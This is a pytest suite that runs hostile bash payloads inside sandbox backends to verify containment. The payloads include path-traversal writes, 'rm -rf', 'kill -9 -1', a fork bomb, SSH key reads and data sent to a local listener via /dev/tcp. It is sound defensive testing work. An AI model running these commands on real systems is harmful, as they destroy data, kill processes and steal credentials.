"""The hostile-payload suite: replies that try to escape, flood, linger or spy, run for real.

For every payload and every backend it applies to, the test asserts from the host:

- nothing was written outside the sandbox: two canary trees (one the sandbox can see read-only,
  one it cannot see at all) are byte-for-byte unchanged, and no file carrying the run's token
  appeared in the host places a payload aims at (/, /etc, /tmp, /var/tmp, /dev/shm, ~/.ssh);
- nothing is left running: no process carries the run's BA_RUN_ID marker or the payload's
  unique `sleep 9999.<n>` argument once `run` returned;
- the run ended within its timeout plus the grace period (plus scheduling slack);
- the sandbox keeps working: a benign run right after it succeeds (for docker, whose runs are
  containers of their own, the engine still answers);
- what the payload was after (a secret, a host listener, a host process) it did not get.

`kill -9 -1` runs only where the run has its own pid namespace; as root without one it would
kill every process on the machine, so `_refuse_without_pid_namespace` checks that pid 1 of a
probe run is our reaper and refuses (fails) otherwise, before the payload is ever started.
"""

from __future__ import annotations

import os
import random
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from boundary_audit.sandbox import Limits, Sandbox, make_sandbox
from boundary_audit.sandbox import bwrap as bwrap_module
from boundary_audit.sandbox.interface import ExecResult
from boundary_audit.services.dockerd import ping

LIMITS = Limits(timeout_s=1.0, grace_s=2.0, max_procs=128)
SLACK_S = 3.0
"""Scheduling slack on top of timeout + grace: the suite shares two cores with others."""
SECRET = "ba-canary-secret-7f3e1c"


@dataclass
class World:
    """The host-side things a payload aims at, and what the test watches."""

    token: str
    sleep_arg: str
    visible: Path
    """A canary tree the sandbox can see (read-only under bwrap)."""
    hidden: Path
    """A canary tree under the host's /tmp (replaced inside bwrap and docker)."""
    home: Path
    """A HOME-like directory with .ssh/id_ed25519 holding SECRET; it is $HOME for bwrap."""
    port: int
    received: list[bytes] = field(default_factory=list)
    abstract: str = ""
    sentinel: subprocess.Popen[bytes] | None = None

    def fill(self, text: str) -> str:
        return (
            text.replace("{token}", self.token).replace("{sleep}", f"sleep {self.sleep_arg}")
            .replace("{visible}", str(self.visible)).replace("{hidden}", str(self.hidden))
            .replace("{home}", str(self.home)).replace("{port}", str(self.port))
            .replace("{abstract}", self.abstract).replace("{python}", sys.executable)
            .replace("{sentinel}", str(self.sentinel.pid if self.sentinel else 0))
        )  # fmt: skip


Check = Callable[[ExecResult, World], None]


@dataclass(frozen=True)
class Hostile:
    """One payload: a bash script (placeholders filled from the World) and where it applies."""

    id: str
    script: str
    backends: tuple[str, ...]
    check: Check | None = None
    pid_namespace: bool = False


ISOLATING = ("bwrap", "docker")
EVERY = ("bwrap", "docker", "tempdir")


def _timed_out(r: ExecResult, _: World) -> None:
    assert r.timed_out and r.exit_code is None


def _bomb_defused(r: ExecResult, _: World) -> None:
    # The first shell returns at once, its copies keep forking until the pids limit: teardown
    # kills them all (or the timeout does, if the first shell is still waiting). Under the
    # suite's load bwrap once saw every copy gone before its teardown looked (0.08 s, none to
    # kill): then the limit's refusals are what stopped it, and bash says so on stderr.
    # (Nothing lingering is checked for every payload.)
    refused = b"fork: retry: Resource temporarily unavailable" in r.stderr
    assert r.timed_out or r.escaped_killed > 0 or refused


def _flooded(stream: str) -> Check:
    def check(r: ExecResult, _: World) -> None:
        assert r.timed_out and r.truncated
        assert len(getattr(r, stream)) == LIMITS.output_bytes

    return check


def _escaped(at_least: int) -> Check:
    def check(r: ExecResult, _: World) -> None:
        assert not r.timed_out and r.exit_code == 0 and r.stdout == b"started\n"
        assert r.escaped_killed >= at_least

    return check


def _no_secret(r: ExecResult, _: World) -> None:
    assert SECRET.encode() not in r.stdout + r.stderr


def _listener_got_nothing(r: ExecResult, w: World) -> None:
    assert w.received == [] and b"connected" not in r.stdout


def _sentinel_alive(r: ExecResult, w: World) -> None:
    assert w.sentinel is not None and w.sentinel.poll() is None
    assert r.stdout == b"still here\n" and not r.timed_out


def _host_unreachable(r: ExecResult, w: World) -> None:
    assert b"reached" not in r.stdout and w.sentinel is not None and w.sentinel.poll() is None


PAYLOADS = [
    Hostile("write-dotdot", "cd /tmp/work 2>/dev/null; for t in {visible} {hidden}; do "
            "echo pwned > ../../../../../../..$t/dotdot-{token}; done; "
            "echo pwned > ../../../../../../../etc/dotdot-{token}; true", ISOLATING),
    Hostile("write-absolute", "echo pwned > {visible}/abs-{token}; echo pwned > {hidden}/abs-"
            "{token}; echo pwned > /etc/abs-{token}; echo pwned > /abs-{token}; true", ISOLATING),
    Hostile("write-home", "echo pwned > {home}/home-{token}; echo pwned > {home}/.ssh/home-{token};"
            " mkdir -p ~/.ssh; echo pwned > ~/.ssh/home-{token}; true", ISOLATING),
    Hostile("write-tmp", "echo pwned > /tmp/tmp-{token}; echo pwned > /var/tmp/tmp-{token};"
            " echo pwned > /dev/shm/tmp-{token}; true", ISOLATING),
    Hostile("symlink-dir", "ln -s {visible} out; echo pwned > out/sym-{token};"
            " ln -s {hidden} out2; echo pwned > out2/sym-{token}; true", ISOLATING),
    Hostile("symlink-file", "ln -s {visible}/secret.txt s; echo pwned > s;"
            " ln -s {hidden}/secret.txt s2; echo pwned >> s2; true", ISOLATING),
    Hostile("symlink-root", "ln -s / r; echo pwned > r/etc/r-{token}; cp /bin/sh r/usr/bin/r-"
            "{token}; ln -s ../../../../.. up; echo pwned > up/etc/up-{token}; true", ISOLATING),
    Hostile("hardlink", "ln {visible}/secret.txt h && echo pwned > h; true", ISOLATING),
    Hostile("remove-and-chmod", "rm -rf {visible}/* {hidden}/*; chmod 000 {visible}/secret.txt;"
            " chmod -R 777 {visible}; true", ISOLATING),
    Hostile("kill-everything", "kill -9 -1; echo still here", ISOLATING, _sentinel_alive,
            pid_namespace=True),
    Hostile("fork-bomb", "b() { b | b & }; b", EVERY, _bomb_defused),
    Hostile("infinite-stdout", "yes", EVERY, _flooded("stdout")),
    Hostile("infinite-stderr", "yes >&2", EVERY, _flooded("stderr")),
    Hostile("sleep-forever", "sleep infinity", EVERY, _timed_out),
    Hostile("setsid-daemon", "setsid {sleep} & echo started", EVERY, _escaped(1)),
    Hostile("nohup-daemon", "nohup {sleep} >/dev/null 2>&1 & echo started", EVERY, _escaped(1)),
    Hostile("double-fork", "( ({sleep} &) & ); echo started", EVERY, _escaped(1)),
    Hostile("daemon-holding-output", "setsid sh -c 'while :; do echo x; sleep 0.05; done' "
            "{token} & sleep 0.2; echo started >&2", EVERY),
    Hostile("leave-the-cgroup", "echo $$ > /sys/fs/cgroup/pids/cgroup.procs 2>/dev/null;"
            " setsid {sleep} & echo started", EVERY, _escaped(1)),
    Hostile("scrub-own-environment", "setsid env -i {sleep} & echo started", EVERY, _escaped(1)),
    Hostile("read-ssh-keys", "cat {home}/.ssh/id_ed25519 ~/.ssh/id_ed25519 /root/.ssh/* 2>&1;"
            " ls -A {home} 2>&1; grep -rs {secret} /tmp /root /home 2>&1; true", ISOLATING,
            _no_secret),
    Hostile("network-tcp", "echo leak > /dev/tcp/127.0.0.1/{port} && echo connected; true",
            ISOLATING, _listener_got_nothing),
    Hostile("network-abstract-unix", "{python} -c \"import socket; s = socket.socket("
            "socket.AF_UNIX); s.connect(b'\\0{abstract}'); s.send(b'leak'); print('connected')\""
            " 2>/dev/null; true", ("bwrap",), _listener_got_nothing),
    Hostile("signal-host-process", "kill -0 {sentinel} 2>/dev/null && echo reached;"
            " kill -9 {sentinel} 2>/dev/null; true", ISOLATING, _host_unreachable),
    Hostile("daemon-sockets", "for s in /var/run/docker.sock /run/containerd/containerd.sock; do"
            " test -S $s && echo visible $s; done; true", ISOLATING,
            lambda r, _: (None if b"visible" not in r.stdout else pytest.fail(r.stdout.decode()))),
]  # fmt: skip

CASES = [
    pytest.param(p, b, id=f"{p.id}-{b}", marks=[getattr(pytest.mark, b)] if b != "tempdir" else [])
    for p in PAYLOADS
    for b in p.backends
]


def test_the_suite_is_large_and_covers_every_backend() -> None:
    assert len(PAYLOADS) >= 20 and len({p.id for p in PAYLOADS}) == len(PAYLOADS)
    assert {b for p in PAYLOADS for b in p.backends} == set(EVERY)
    assert all("tempdir" not in p.backends for p in PAYLOADS if p.pid_namespace)


def _tree(root: Path) -> dict[str, tuple[int, bytes]]:
    found = {}
    for path in sorted(root.rglob("*")):
        st = path.lstat()
        data = os.readlink(path).encode() if path.is_symlink() else (
            path.read_bytes() if path.is_file() else b"")  # fmt: skip
        found[str(path.relative_to(root))] = (st.st_mode, data)
    return found


def _lingering(marker: bytes, needle: bytes) -> list[int]:
    me, found = os.getpid(), []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        try:
            environ = Path(f"/proc/{name}/environ").read_bytes().split(b"\0")
            cmdline = Path(f"/proc/{name}/cmdline").read_bytes()
            state = Path(f"/proc/{name}/stat").read_bytes().rpartition(b")")[2].split()[0]
        except OSError:
            continue
        if state != b"Z" and (marker in environ or needle in cmdline):
            found.append(int(name))
    return found


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    token = f"{random.randrange(10**9):09d}"
    base = Path("/var/cache") if os.access("/var/cache", os.W_OK) else tmp_path
    visible = base / f"ba-canary-{token}"
    hidden, home = tmp_path / "hidden", visible / "home"
    for tree in (visible, hidden):
        (tree / "sub").mkdir(parents=True)
        (tree / "secret.txt").write_bytes(b"do not touch\n")
        (tree / "sub" / "x").write_bytes(b"\0\1\2")
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(f"-----BEGIN {SECRET}-----\n")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind(b"\0ba-" + token.encode())
    abstract.listen(5)
    w = World(token, f"9999.{token}", visible, hidden, home, server.getsockname()[1])
    w.abstract = f"ba-{token}"
    for sock in (server, abstract):
        threading.Thread(target=_accept, args=(sock, w.received), daemon=True).start()
    w.sentinel = subprocess.Popen(["sleep", "300"], start_new_session=True)
    try:
        yield w
    finally:
        w.sentinel.kill()
        w.sentinel.wait()
        server.close()
        abstract.close()
        subprocess.run(["rm", "-rf", str(visible)], check=False)


def _accept(sock: socket.socket, received: list[bytes]) -> None:
    try:
        conn, _ = sock.accept()
        received.append(conn.recv(100) or b"<connected>")
    except OSError:
        pass


@pytest.fixture
def box(
    request: pytest.FixtureRequest, world: World, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Sandbox]:
    backend = request.node.callspec.params["backend"]
    if backend == "docker":
        engine = request.getfixturevalue("docker_engine")
        sandbox = make_sandbox("docker", LIMITS, engine=engine)
    elif backend == "bwrap":
        # The fake home stands for the user's: it is $HOME when bwrap computes what to hide.
        monkeypatch.setenv("HOME", str(world.home))
        bwrap_module.static_args.cache_clear()
        sandbox = make_sandbox("bwrap", LIMITS)
    else:
        sandbox = make_sandbox(backend, LIMITS)
    try:
        yield sandbox
    finally:
        sandbox.close()
        bwrap_module.static_args.cache_clear()


def _refuse_without_pid_namespace(sandbox: Sandbox) -> None:
    with sandbox.workspace() as ws:
        r = sandbox.run(ws, ["/bin/sh", "-c", "tr '\\0' '\\n' < /proc/1/cmdline"])
    if b"\nba-reap\n" not in r.stdout:
        raise RuntimeError(f"refusing `kill -9 -1`: sandbox {sandbox.name} has no pid namespace")


@pytest.mark.parametrize(("payload", "backend"), CASES)
def test_hostile_payload_is_contained(
    payload: Hostile, backend: str, box: Sandbox, world: World
) -> None:
    if payload.pid_namespace:
        _refuse_without_pid_namespace(box)
    before = {tree: _tree(tree) for tree in (world.visible, world.hidden)}
    start = time.monotonic()
    with box.workspace() as ws:
        r = box.run(ws, ["bash", "-c", world.fill(payload.script)])
        took = time.monotonic() - start
        lingering = _lingering(f"BA_RUN_ID={ws.run_id}".encode(), world.token.encode())
    assert lingering == [], f"left running: {lingering}"
    assert took <= LIMITS.timeout_s + LIMITS.grace_s + SLACK_S
    assert {tree: _tree(tree) for tree in before} == before
    for place in (
        "/",
        "/etc",
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/root/.ssh",
        str(world.home / ".ssh"),
    ):
        strays = [
            n for n in (os.listdir(place) if os.path.isdir(place) else []) if world.token in n
        ]
        assert strays == [], f"{place}: {strays}"
    if payload.check is not None:
        payload.check(r, world)
    if backend == "docker":
        # Every docker run is a container of its own: what must survive is the engine.
        assert ping(Path(box._engine.url.removeprefix("unix://")))  # type: ignore[attr-defined]
        return
    with box.workspace() as ws:
        after = box.run(ws, ["/bin/sh", "-c", "echo ok > f && cat f"])
    assert (after.exit_code, after.stdout) == (0, b"ok\n")
